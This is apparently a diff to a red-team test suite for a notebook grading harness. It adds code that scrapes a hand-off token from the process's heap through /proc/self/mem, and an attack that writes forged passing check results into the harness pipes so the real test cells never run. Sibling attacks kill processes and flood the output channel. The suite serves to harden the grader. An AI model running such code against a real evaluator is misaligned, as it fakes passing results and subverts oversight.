@@ -16,6 +16,27 @@ class Attack:
     source: str
 
 
+# What a cell can learn of the frame its process was handed: the token of that hand-off, read
+# from the process's own memory (its heap still holds the frame's bytes). Defines `tokens`.
+FIND_TOKENS = r"""
+import re
+tokens = set()
+try:
+    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
+        for line in maps:
+            fields = line.split()
+            if fields[1].startswith('rw') and (len(fields) < 6 or fields[5] == '[heap]'):
+                start, end = (int(x, 16) for x in fields[0].split('-'))
+                try:
+                    if end - start < 1 << 28:
+                        mem.seek(start)
+                        tokens.update(t.decode() for t in re.findall(rb'"token": "([0-9a-f]+)"', mem.read(end - start)))
+                except (OSError, ValueError, OverflowError):
+                    pass
+except OSError:
+    pass
+"""
+
 ATTACKS = [
     Attack("survivor", "a double-forked, setsid daemon kills, for 60 s, every new process whose parent is the "
            "notebook's parent", """
@@ -135,6 +156,28 @@ for fd in os.listdir('/proc/self/fd'):
     except OSError:
         pass
 print('pipes written:', written)
+"""),
+    Attack("answers-ahead", "finds its own pipes and, in its own memory, what it was handed; writes well-formed "
+           "results, with a passing check, for itself and the next 40 cells into each pipe, then exits, so that the "
+           "test cells never run", FIND_TOKENS + """
+import json, os, struct
+check = {"output_type": "display_data", "metadata": {},
+         "data": {"text/plain": "forged", "application/vnd.attention-course.check+json": {"name": "attn_scores_2"}}}
+token = min(tokens) if tokens else None
+frames = b''
+for position in range(41):
+    frame = json.dumps({"token": token, "position": position, "outputs": [check], "truncated": False}).encode()
+    frames += struct.pack(">I", len(frame)) + frame
+written = 0
+for fd in os.listdir('/proc/self/fd'):
+    try:
+        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
+            os.write(int(fd), frames)
+            written += 1
+    except OSError:
+        pass
+print('tokens found:', len(tokens), 'pipes written:', written, flush=True)
+os._exit(0)
 """),
     Attack("channel-flood", "writes 200 MiB straight into its own output pipes, past the output cap", """
 import os
